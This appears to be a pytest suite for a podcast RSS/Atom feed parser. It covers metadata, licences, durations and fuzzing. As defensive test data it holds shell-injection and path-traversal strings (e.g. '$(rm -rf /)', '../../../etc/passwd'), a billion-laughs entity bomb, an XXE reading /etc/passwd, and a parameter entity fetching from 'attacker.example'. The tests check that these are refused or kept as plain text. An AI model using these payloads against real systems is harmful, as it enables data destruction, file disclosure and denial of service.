from __future__ import annotations

import dataclasses
import datetime
import time
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from speechmill.core.crawl.feeds import (
    Feed,
    FeedEntry,
    FeedError,
    parse_duration,
    parse_feed,
)

FEED_URL = "https://podcasts.example.org/shows/garden/feed.xml"

PODCAST_RSS = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"
     xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"
     xmlns:atom="http://www.w3.org/2005/Atom"
     xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel>
    <title>  The Garden Hour  </title>
    <link>https://garden.example.org/</link>
    <atom:link href="https://podcasts.example.org/shows/garden/feed.xml" rel="self"
               type="application/rss+xml"/>
    <language>en-gb</language>
    <copyright>All rights reserved</copyright>
    <itunes:author>Jo Gardener</itunes:author>
    <itunes:owner><itunes:name>Garden Media</itunes:name></itunes:owner>
    <itunes:category text="Leisure"><itunes:category text="Home &amp; Garden"/></itunes:category>
    <item>
      <title>Episode 3: Compost</title>
      <link>https://garden.example.org/ep3</link>
      <guid isPermaLink="false">garden-ep-3</guid>
      <pubDate>Tue, 02 Jan 2024 23:30:00 -0500</pubDate>
      <enclosure url="/media/ep3.mp3" length="12345678" type="audio/mpeg"/>
      <itunes:duration>01:02:03</itunes:duration>
      <itunes:keywords>compost, soil ,, worms</itunes:keywords>
      <category>Gardening</category>
      <dc:creator>Sam Soil</dc:creator>
    </item>
    <item>
      <title><![CDATA[Episode 2: Seeds & <Sprouts>]]></title>
      <guid>https://garden.example.org/ep2</guid>
      <pubDate>Mon, 11 Dec 2023 08:00:00 GMT</pubDate>
      <enclosure url="https://cdn.example.net/ep2.m4a" length="-5" type="audio/x-m4a"/>
      <itunes:duration>1425</itunes:duration>
      <itunes:author>Jo Gardener</itunes:author>
    </item>
    <item>
      <title>Announcement: no episode this week</title>
      <guid>announce-1</guid>
      <pubDate>not a date</pubDate>
      <itunes:duration>soon</itunes:duration>
    </item>
  </channel>
</rss>
"""

CC_RSS = b"""<?xml version="1.0"?>
<rss version="2.0"
     xmlns:creativeCommons="http://backend.userland.com/creativeCommonsRssModule"
     xmlns:media="http://search.yahoo.com/mrss/"
     xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel>
    <title>Open Lectures</title>
    <creativeCommons:license>http://creativecommons.org/licenses/by/4.0/</creativeCommons:license>
    <dc:language>de</dc:language>
    <item>
      <title>Lecture 1</title>
      <creativeCommons:license>http://creativecommons.org/licenses/by-sa/4.0/</creativeCommons:license>
      <dc:rights>CC BY-SA 4.0</dc:rights>
      <media:content url="lecture1.jpg" type="image/jpeg"/>
      <media:content url="lecture1.ogg" type="audio/ogg" fileSize="4096" duration="61.5"/>
      <media:license href="https://creativecommons.org/licenses/by-sa/4.0/">CC BY-SA</media:license>
      <media:keywords>physics, optics</media:keywords>
    </item>
    <item>
      <title>Lecture 2</title>
      <enclosure url="lecture2.pdf" type="application/pdf" length="10"/>
      <enclosure url="lecture2.webm" type="video/webm" length="20"/>
      <media:content url="ignored-because-enclosure.ogg" type="audio/ogg"/>
    </item>
  </channel>
</rss>
"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
  <title>Radio Libre</title>
  <link href="https://radio.example.fr/"/>
  <link rel="self" href="https://radio.example.fr/atom.xml"/>
  <link rel="license" href="https://creativecommons.org/licenses/by/3.0/fr/"/>
  <rights>CC BY 3.0 FR</rights>
  <author><name>Collectif Radio</name><email>radio@example.fr</email></author>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <updated>2024-03-01T10:00:00Z</updated>
  <entry>
    <title type="text">Emission 12</title>
    <id>tag:radio.example.fr,2024:12</id>
    <link rel="alternate" type="text/html" href="https://radio.example.fr/12"/>
    <link rel="enclosure" type="image/png" href="cover12.png" length="99"/>
    <link rel="enclosure" type="audio/ogg" href="audio/12.ogg" length="5000"/>
    <link rel="license" href="https://creativecommons.org/licenses/by-nc/3.0/fr/"/>
    <rights>CC BY-NC</rights>
    <published>2024-02-28T23:59:59+01:00</published>
    <updated>2024-03-01T10:00:00Z</updated>
    <author><name>Camille</name></author>
    <category term="politique"/>
    <category term="local"/>
  </entry>
  <entry>
    <title>Sans audio</title>
    <id>tag:radio.example.fr,2024:13</id>
    <updated>2024-03-02T08:00:00Z</updated>
  </entry>
</feed>
"""


def _rss(*items: str, channel_extra: str = "") -> bytes:
    body = "".join(f"<item>{item}</item>" for item in items)
    return (
        '<?xml version="1.0" encoding="utf-8"?>'
        '<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">'
        f"<channel><title>t</title>{channel_extra}{body}</channel></rss>"
    ).encode()


# --- realistic feeds ------------------------------------------------------------------------


def test_podcast_rss_channel():
    feed = parse_feed(PODCAST_RSS, FEED_URL)
    assert isinstance(feed, Feed)
    assert feed.title == "The Garden Hour"
    assert feed.link == "https://garden.example.org/"  # atom:link rel=self is not the page
    assert feed.author == "Jo Gardener"
    assert feed.language == "en-gb"
    assert feed.license_marks == ("All rights reserved",)
    assert len(feed.entries) == 3


def test_podcast_rss_entries():
    ep3, ep2, announce = parse_feed(PODCAST_RSS, FEED_URL).entries
    assert ep3 == FeedEntry(
        guid="garden-ep-3",
        title="Episode 3: Compost",
        link="https://garden.example.org/ep3",
        enclosure_url="https://podcasts.example.org/media/ep3.mp3",  # relative, resolved
        enclosure_type="audio/mpeg",
        enclosure_length=12345678,
        published=datetime.date(2024, 1, 2),  # the date as written, not shifted to UTC
        duration_s=3723.0,
        author="Sam Soil",
        language=None,
        license_marks=(),
        keywords=("compost", "soil", "worms", "Gardening"),
    )
    assert ep2.title == "Episode 2: Seeds & <Sprouts>"
    assert ep2.guid == "https://garden.example.org/ep2"
    assert ep2.enclosure_url == "https://cdn.example.net/ep2.m4a"
    assert ep2.enclosure_length is None  # negative
    assert ep2.published == datetime.date(2023, 12, 11)
    assert ep2.duration_s == 1425.0
    assert ep2.author == "Jo Gardener"
    assert ep2.link is None
    # Kept although it has no enclosure; the caller decides.
    assert announce.enclosure_url is None
    assert announce.enclosure_type is None
    assert announce.enclosure_length is None
    assert announce.published is None
    assert announce.duration_s is None


def test_creative_commons_rss_and_media_rss():
    feed = parse_feed(CC_RSS, "http://lectures.example.edu/feeds/all.rss")
    assert feed.license_marks == ("http://creativecommons.org/licenses/by/4.0/",)
    assert feed.language == "de"
    lec1, lec2 = feed.entries
    # media:content counts as the enclosure when there is no <enclosure>; audio beats image.
    assert lec1.enclosure_url == "http://lectures.example.edu/feeds/lecture1.ogg"
    assert lec1.enclosure_type == "audio/ogg"
    assert lec1.enclosure_length == 4096
    assert lec1.duration_s == 61.5
    assert lec1.license_marks == (
        "http://creativecommons.org/licenses/by-sa/4.0/",
        "CC BY-SA 4.0",
        "https://creativecommons.org/licenses/by-sa/4.0/",
        "CC BY-SA",
    )
    assert lec1.keywords == ("physics", "optics")
    # Several enclosures: the first audio/video one wins; media:content is not consulted.
    assert lec2.enclosure_url == "http://lectures.example.edu/feeds/lecture2.webm"
    assert lec2.enclosure_type == "video/webm"
    assert lec2.enclosure_length == 20


def test_first_enclosure_when_none_is_audio_or_video():
    feed = parse_feed(
        _rss(
            '<enclosure url="a.pdf" type="application/pdf"/><enclosure url="b.txt"/>'
            '<enclosure url="" type="audio/mpeg"/>'
        ),
        "https://x.example/feed",
    )
    assert feed.entries[0].enclosure_url == "https://x.example/a.pdf"


def test_atom_feed():
    feed = parse_feed(ATOM, "https://radio.example.fr/atom.xml")
    assert feed.title == "Radio Libre"
    assert feed.link == "https://radio.example.fr/"
    assert feed.author == "Collectif Radio"
    assert feed.language == "fr"
    assert feed.license_marks == ("https://creativecommons.org/licenses/by/3.0/fr/", "CC BY 3.0 FR")
    e12, e13 = feed.entries
    assert e12 == FeedEntry(
        guid="tag:radio.example.fr,2024:12",
        title="Emission 12",
        link="https://radio.example.fr/12",
        enclosure_url="https://radio.example.fr/audio/12.ogg",
        enclosure_type="audio/ogg",
        enclosure_length=5000,
        published=datetime.date(2024, 2, 28),
        duration_s=None,
        author="Camille",
        language=None,
        license_marks=("https://creativecommons.org/licenses/by-nc/3.0/fr/", "CC BY-NC"),
        keywords=("politique", "local"),
    )
    assert e13.enclosure_url is None
    assert e13.published == datetime.date(2024, 3, 2)  # falls back to <updated>


def test_other_licence_namespaces():
    data = b"""<rss xmlns:cc="http://web.resource.org/cc/"
                    xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
                    xmlns:ccns="http://creativecommons.org/ns#"
                    xmlns:cc2="http://cyber.law.harvard.edu/rss/creativeCommonsRssModule.html">
      <channel><title>t</title>
        <cc:license rdf:resource="http://creativecommons.org/licenses/by-nd/2.0/"/>
        <item><title>i</title>
          <ccns:license>http://creativecommons.org/publicdomain/zero/1.0/</ccns:license>
          <cc2:license>http://creativecommons.org/licenses/by/2.5/</cc2:license>
        </item>
      </channel></rss>"""
    feed = parse_feed(data, "http://x/")
    assert feed.license_marks == ("http://creativecommons.org/licenses/by-nd/2.0/",)
    assert feed.entries[0].license_marks == (
        "http://creativecommons.org/publicdomain/zero/1.0/",
        "http://creativecommons.org/licenses/by/2.5/",
    )


def test_tolerates_common_sloppiness():
    data = (
        b"\n\n  <?xml version='1.0'?>"  # blank lines before the declaration
        b'<rss xmlns:itunes="https://www.itunes.com/DTDs/Podcast-1.0.dtd/">'  # misspelt URI
        b"<channel><title>t</title><mystery:x xmlns:mystery='urn:x'>?</mystery:x>"
        b"<item><title>i</title><itunes:duration> 5:07 </itunes:duration>"
        b"<pubdate>2024-05-06</pubdate><unknown/></item></channel></rss>"
    )
    entry = parse_feed(data, "http://x/").entries[0]
    assert entry.duration_s == 307.0
    assert entry.published == datetime.date(2024, 5, 6)


def test_netscape_doctype_is_accepted_but_never_fetched():
    data = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        b' "file:///etc/passwd">\n'
        b'<rss version="0.91"><channel><title>Old</title>'
        b"<item><title>i</title></item></channel></rss>"
    )
    feed = parse_feed(data, "http://x/")
    assert feed.title == "Old"
    assert [e.title for e in feed.entries] == ["i"]


def test_shift_jis_feed_is_transcoded():
    text = '<?xml version="1.0" encoding="Shift_JIS"?><rss><channel><title>日本語</title>'
    data = (text + "</channel></rss>").encode("shift_jis")
    assert parse_feed(data, "http://x/").title == "日本語"


def test_unresolvable_enclosure_url_is_skipped():
    feed = parse_feed(
        _rss('<enclosure url="http://[::1" type="audio/mpeg"/><enclosure url="b.mp3"/>'),
        "http://x.example/f",
    )
    assert feed.entries[0].enclosure_url == "http://x.example/b.mp3"


# --- hostile strings are data -----------------------------------------------------------------

HOSTILE = [
    "../../../etc/passwd",
    "$(rm -rf /)",
    "`reboot`; rm -rf ~ && echo pwned > /tmp/x | cat",
    "ctl\x7f\x80\x85\x9f mid \x85",  # C1 controls are legal XML 1.0 characters
    "\u202etxt.exe\u202c mp3",
    "ep " + "x" * 400,
    "tab\tinside\nnewline",
    "quote ' \" <tag> & amp",
    "\u00a0nbsp kept\u3000",  # only XML whitespace is stripped
    "日本語 / العربية / emoji \U0001f600",
]


@pytest.mark.parametrize("title", HOSTILE)
def test_hostile_strings_round_trip_verbatim(title: str):
    encoded = escape(title)
    data = _rss(
        f"<title>  {encoded}\n</title><guid>{encoded}</guid><itunes:author>{encoded}"
        f"</itunes:author><category>{encoded}</category>",
        channel_extra=f"<copyright>{encoded}</copyright>",
    )
    feed = parse_feed(data, "http://x/")
    entry = feed.entries[0]
    assert entry.title == title
    assert entry.guid == title
    assert entry.author == title
    assert entry.keywords == (title,)
    assert feed.license_marks == (title,)


@pytest.mark.parametrize("control", ["\x01", "\x1b", "&#1;", "&#x1b;", "&#0;"])
def test_c0_controls_are_not_xml_and_raise_feed_error(control: str):
    with pytest.raises(FeedError):
        parse_feed(_rss(f"<title>a{control}b</title>"), "http://x/")


# --- refusals ----------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss><channel><title>&lol9;</title></channel></rss>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss><channel><title>&xxe;</title></channel></rss>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss><channel><title>t</title></channel></rss>
"""


@pytest.mark.parametrize(
    "data", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY], ids=["billion-laughs", "xxe", "param-entity"]
)
def test_entity_attacks_are_refused_quickly(data: bytes):
    start = time.monotonic()
    with pytest.raises(FeedError, match="refused"):
        parse_feed(data, "http://x/")
    assert time.monotonic() - start < 1.0


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"not xml at all",
        b"<rss><channel><title>unclosed</channel></rss>",
        b"<rss><channel><title>&nbsp;</title></channel></rss>",  # undefined entity
        b"<rss><channel><itunes:author>x</itunes:author></channel></rss>",  # unbound prefix
        b'<?xml version="1.0" encoding="rot13"?><rss/>',
        b'<?xml version="1.0" encoding="no-such-codec"?><rss/>',
        b'<?xml version="1.0" encoding="shift_jis"?><rss><channel><title>\xff\xff</title>',
        b"\xff\xfe\x00\x00garbage",
    ],
)
def test_malformed_xml_raises_feed_error(data: bytes):
    with pytest.raises(FeedError):
        parse_feed(data, "http://x/")


@pytest.mark.parametrize(
    "data",
    [
        b"<html><body>not a feed</body></html>",
        b"<rss version='2.0'><item><title>no channel</title></item></rss>",
    ],
)
def test_xml_that_is_not_a_feed_raises_feed_error(data: bytes):
    with pytest.raises(FeedError):
        parse_feed(data, "http://x/")


def test_feed_error_is_a_value_error():
    assert issubclass(FeedError, ValueError)


def test_oversize_input_is_refused_before_parsing():
    data = _rss("<title>" + "a" * 1000 + "</title>")
    assert parse_feed(data, "http://x/", max_bytes=len(data)).entries
    with pytest.raises(FeedError, match="limit"):
        parse_feed(data, "http://x/", max_bytes=len(data) - 1)
    with pytest.raises(FeedError, match="limit"):
        parse_feed(b"<" * 20_000_001, "http://x/")  # the default: 20 MB


def test_records_are_frozen():
    feed = parse_feed(PODCAST_RSS, FEED_URL)
    with pytest.raises(dataclasses.FrozenInstanceError):
        feed.title = "x"  # type: ignore[misc]
    with pytest.raises(dataclasses.FrozenInstanceError):
        feed.entries[0].title = "x"  # type: ignore[misc]


# --- durations -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("42", 42.0),
        ("3600", 3600.0),
        ("12.5", 12.5),
        ("0", 0.0),
        ("05:07", 307.0),
        ("5:07", 307.0),
        ("75:00", 4500.0),  # leading part may exceed 59
        ("1:02:03", 3723.0),
        ("01:02:03", 3723.0),
        ("100:00:00", 360000.0),
        ("0:00:01.25", 1.25),
        ("  00:30 \n", 30.0),
        (None, None),
        ("", None),
        ("   ", None),
        ("abc", None),
        ("-5", None),
        ("1:-5", None),
        ("1:75", None),  # later parts must be below 60
        ("1:60:00", None),
        ("1:2:3:4", None),
        ("1::2", None),
        (":30", None),
        ("1.5:00", None),  # only the last part may have a fraction
        ("1h02m", None),
        ("12,5", None),
        ("1_000", None),
        ("nan", None),
        ("inf", None),
        ("\u0661\u0662", None),  # non-ASCII digits
        ("9" * 400, None),  # overflows to inf
    ],
)
def test_parse_duration(text: str | None, seconds: float | None):
    assert parse_duration(text) == seconds


# --- fuzzing ----------------------------------------------------------------------------------

FRAGMENTS = [
    b'<?xml version="1.0"?>',
    b'<?xml version="1.0" encoding="shift_jis"?>',
    b'<?xml version="1.0" encoding="utf-16"?>',
    b"<!DOCTYPE rss [",
    b'<!ENTITY a "aaaa">',
    b"]>",
    b"&a;",
    b"<rss>",
    b"</rss>",
    b'<feed xmlns="http://www.w3.org/2005/Atom">',
    b"</feed>",
    b"<channel>",
    b"</channel>",
    b"<item>",
    b"</item>",
    b"<entry>",
    b"</entry>",
    b"<title>",
    b"</title>",
    b'<enclosure url="',
    b'" type="audio/mpeg" length="',
    b'"/>',
    b'<link rel="enclosure" href="',
    b'<itunes:duration xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">',
    b"</itunes:duration>",
    b"<pubDate>",
    b"</pubDate>",
    b"http://[::1",
    b"<![CDATA[",
    b"]]>",
    b"&#0;",
    b"&#x202e;",
]


@settings(max_examples=400, deadline=None)
@given(st.binary(max_size=600))
def test_fuzz_arbitrary_bytes_only_raise_feed_error(data: bytes):
    try:
        feed = parse_feed(data, "http://x/")
    except FeedError:
        return
    assert isinstance(feed, Feed)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS) | st.binary(max_size=12), max_size=40))
def test_fuzz_xmlish_bytes_only_raise_feed_error(parts: list[bytes]):
    try:
        feed = parse_feed(b"".join(parts), "http://x/base/")
    except FeedError:
        return
    assert isinstance(feed, Feed)


def _xml_char(c: str) -> bool:
    o = ord(c)
    return c in "\t\n" or 0x20 <= o <= 0xD7FF or 0xE000 <= o <= 0xFFFD or o >= 0x10000


xml_text = st.text(st.characters(codec="utf-8").filter(_xml_char), max_size=40)


@settings(max_examples=300, deadline=None)
@given(
    title=xml_text,
    fields=st.lists(
        st.tuples(
            st.sampled_from(
                [
                    "pubDate",
                    "itunes:duration",
                    "itunes:keywords",
                    "guid",
                    "link",
                    "category",
                    "author",
                    "copyright",
                ]
            ),
            xml_text,
        ),
        max_size=6,
    ),
    enclosures=st.lists(st.tuples(xml_text, xml_text, xml_text), max_size=3),
    feed_url=xml_text,
    atom=st.booleans(),
)
def test_fuzz_well_formed_feeds_parse_and_keep_titles(title, fields, enclosures, feed_url, atom):
    inner = f"<title>{escape(title)}</title>"
    inner += "".join(f"<{tag}>{escape(value)}</{tag}>" for tag, value in fields)
    for url, mime, length in enclosures:
        if atom:
            inner += (
                f'<link rel="enclosure" href={quoteattr(url)} type={quoteattr(mime)}'
                f" length={quoteattr(length)}/>"
            )
        else:
            inner += (
                f"<enclosure url={quoteattr(url)} type={quoteattr(mime)}"
                f" length={quoteattr(length)}/>"
            )
    if atom:
        data = (
            '<feed xmlns="http://www.w3.org/2005/Atom" '
            'xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">'
            f"<entry>{inner}</entry></feed>"
        ).encode()
    else:
        data = _rss(inner)
    feed = parse_feed(data, feed_url)
    (entry,) = feed.entries
    assert entry.title == (title.strip(" \t\n") or None)
    if entry.enclosure_length is not None:
        assert entry.enclosure_length >= 0
    if entry.duration_s is not None:
        assert entry.duration_s >= 0
